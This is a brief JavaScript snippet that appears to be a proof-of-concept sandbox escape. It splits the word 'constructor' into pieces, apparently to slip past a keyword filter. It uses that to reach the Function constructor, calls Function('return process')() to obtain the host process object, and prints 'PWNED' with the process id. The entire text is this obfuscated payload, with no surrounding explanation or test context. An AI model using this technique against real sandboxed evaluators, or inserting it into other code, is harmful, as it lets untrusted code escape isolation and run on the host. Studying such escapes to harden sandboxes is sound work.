const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class K { constructor() { Object.assign(this, t); } }
console.log('PWNED', new K().go(fn)('return process')().pid);
